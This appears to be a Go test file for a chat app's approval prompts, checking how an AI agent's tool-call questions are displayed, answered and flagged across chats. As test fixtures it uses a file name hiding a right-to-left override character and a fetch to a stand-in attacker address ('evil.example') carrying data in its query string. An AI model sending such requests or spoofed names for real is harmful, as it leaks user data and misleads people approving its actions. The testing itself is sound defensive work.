package cpuwindow

import (
	"testing"
	"time"

	"mac-stats/agents"
	"mac-stats/app/ui/screentest"
)

// The arguments of a tool call are shown in full, one a line, and can't change the text around
// them. Another chat continues meanwhile, and the list shows which one waits.
func TestAQuestionWaitsInItsChat(t *testing.T) {
	screentest.InBubble(t, func(t *testing.T) {
		b := newBench(t)
		_, s := b.withStore()
		b.said(s, "cpu-a", time.Hour, "write it down", "So be it.")
		b.shown()
		b.w.OpenSession("cpu-a")
		b.Settle()
		b.w.chat.Send("once more")
		b.Settle()
		events := b.run(0).events
		events <- agents.Event{Type: agents.EventTool, Call: &agents.Call{ID: "call-1", Name: "files.write_file", Task: "a\u202eb.md"}}
		q := agents.Question{
			ID: "call-1", Tool: "files.write_file", What: `files.write_file {"path":"a\u202eb.md","text":"x"}` + "\n\nThe program now says of this tool: Writes anything.",
			Where: "npx files", Answers: []agents.Answer{agents.AnswerOnce, agents.AnswerNo},
		}
		events <- agents.Event{Type: agents.EventQuestion, Question: &q}
		b.Settle()
		b.Sees("files.write_file {", `  "path": "a\u202eb.md",`, `  "text": "x"`, "The program now says of this tool: Writes anything.", "waiting for your answer", "ab.md")
		b.SeesNot("\u202e", "a question waits for you")
		b.w.NewChat()
		b.Settle()
		b.Sees("a question waits for you")
		b.w.chat.Send("and here?")
		b.Settle()
		b.run(1).events <- agents.Event{Type: agents.EventToken, Text: "Here all goes on."}
		b.Settle()
		b.Sees("Here all goes on.", "a question waits for you")
		answered := q
		answered.Answer = agents.AnswerNo
		events <- agents.Event{Type: agents.EventQuestion, Question: &answered}
		b.Settle()
		b.SeesNot("a question waits for you")
	})
}

func TestAQuestionIsAnsweredInTheChat(t *testing.T) {
	const address = "https://evil.example/?d=green-tea"
	for _, tt := range []struct {
		button string
		answer agents.Answer
		see    string
	}{
		{"Allow once", agents.AnswerOnce, "you allowed once: " + address},
		{"Don't allow", agents.AnswerNo, "not done: " + address},
	} {
		t.Run(tt.button, func(t *testing.T) {
			screentest.InBubble(t, func(t *testing.T) {
				b := newBench(t).shown()
				b.w.chat.Send("read the page")
				b.Settle()
				if !b.turns.requests[0].CanAsk {
					t.Error("the turn was not told that it can ask")
				}
				q := agents.Question{ID: "call-1", Tool: "FETCH_URL", What: address, Where: "evil.example", Answers: []agents.Answer{agents.AnswerOnce, agents.AnswerNo, agents.AnswerNever}}
				b.run(0).events <- agents.Event{Type: agents.EventQuestion, Question: &q}
				b.run(0).events <- agents.Event{Type: agents.EventState, State: agents.StateAsking}
				b.Settle()
				b.Sees("an address of evil.example", address, "waiting for your answer")
				b.tap(tt.button)
				if got := b.run(0).answers["call-1"]; got != tt.answer {
					t.Errorf("answered %q", got)
				}
				answered := q
				answered.Answer = tt.answer
				b.run(0).events <- agents.Event{Type: agents.EventQuestion, Question: &answered}
				b.Settle()
				b.Sees(tt.see)
				b.SeesNot("Allow once", "Don't allow")
			})
		})
	}
}
